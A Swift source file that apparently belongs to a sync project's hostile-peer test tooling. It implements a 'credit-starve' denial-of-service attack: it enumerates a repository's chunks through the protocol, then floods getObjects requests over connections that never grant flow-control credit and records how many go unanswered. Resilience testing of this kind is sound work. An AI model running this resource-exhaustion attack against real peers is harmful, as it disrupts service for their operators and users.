import ArkCore
import ArkSync
import Foundation

extension HostileAttack {
    /// Connects as a member (`--key-store`, listed in the victim's remotes), finds the chunks
    /// of `--repo`'s heads through the protocol, then opens `--connections` connections that
    /// never grant flow-control credit and sends `--streams` getObjects requests on each for
    /// those chunks, holding them for `--seconds`. Each request asks for a full response budget.
    static func creditStarve(_ options: HostileOptions) async throws -> [String: any Sendable] {
        let repo = options.string("repo", default: "proj")
        let connections = try options.int("connections", default: 4)
        let streams = try options.int("streams", default: 256)
        let seconds = try options.double("seconds", default: 10)

        let (scout, probe) = try await connectAsMember(options)
        let chunks = try await chunkIDs(of: repo, via: probe)
        await scout.shutdown()
        guard !chunks.isEmpty else { throw HostileOptions.Invalid(description: "repo \(repo) has no chunks to ask for") }
        let body = SyncRequest.getObjects(Array(chunks.prefix(SyncLimits.maxObjectsPerRequest))).encoded

        var starving = TransportLimits()
        starving.withholdCredit = true
        var transports: [PeerTransport] = []
        var opened = 0, refused = 0
        let results = await withTaskGroup(of: Bool.self, returning: (answered: Int, failed: Int).self) { tasks in
            for _ in 0..<connections {
                guard let (transport, connection) = try? await connectAsMember(options, limits: starving) else {
                    refused += 1
                    continue
                }
                transports.append(transport)
                opened += 1
                for _ in 0..<streams {
                    tasks.addTask { (try? await connection.request(body, deadline: seconds)) != nil }
                }
            }
            var answered = 0, failed = 0
            for await ok in tasks { if ok { answered += 1 } else { failed += 1 } }
            return (answered, failed)
        }
        for transport in transports { await transport.shutdown() }
        return [
            "attack": "credit-starve", "chunks": chunks.count, "connections": opened, "refused": refused,
            "streams_per_connection": streams, "request_bytes": body.count, "answered": results.answered,
            "unanswered": results.failed, "seconds": seconds
        ]
    }

    /// The chunk ids of every head of `repo`, walked commit -> tree -> manifests.
    private static func chunkIDs(of repo: String, via connection: any PeerConnection) async throws -> [ObjectID] {
        func get(_ ids: [ObjectID]) async throws -> [WireObject] {
            guard
                case .objects(let objects) = try SyncResponse(
                    decoding: try await connection.request(SyncRequest.getObjects(ids).encoded, deadline: 10))
            else {
                throw HostileOptions.Invalid(description: "the victim answered getObjects with something else")
            }
            return objects
        }
        // The victim serves its own heads once it has asked this member what it last saw from
        // it, which it does right after the connection opens: ask until they show (10 s).
        var heads: [HeadAnnouncement] = []
        for _ in 0..<100 {
            guard
                case .heads(let list) = try SyncResponse(
                    decoding: try await connection.request(SyncRequest.getHeads(repo: repo).encoded, deadline: 10))
            else {
                throw HostileOptions.Invalid(description: "the victim answered getHeads with something else")
            }
            heads = list
            if !heads.isEmpty { break }
            try await Task.sleep(for: .milliseconds(100))
        }
        var chunks: [ObjectID] = []
        var pending: [ObjectID] = []
        for object in try await get(heads.map(\.head)) { pending.append(try Commit(decoding: object.bytes).tree) }
        while !pending.isEmpty, chunks.count < SyncLimits.maxObjectsPerRequest {
            let batch = Array(pending.prefix(256))
            pending.removeFirst(batch.count)
            for object in try await get(batch) {
                switch object.kind {
                case .tree:
                    pending += try Tree(decoding: object.bytes).entries.filter { $0.kind != .submodule }.compactMap(\.id)
                case .manifest:
                    let manifest = try Manifest(decoding: object.bytes)
                    let children = (0..<manifest.count).map(manifest.id(at:))
                    if manifest.level == 0 { chunks += children } else { pending += children }
                case .chunk:
                    chunks.append(object.id)
                default:
                    break
                }
            }
        }
        return chunks
    }
}
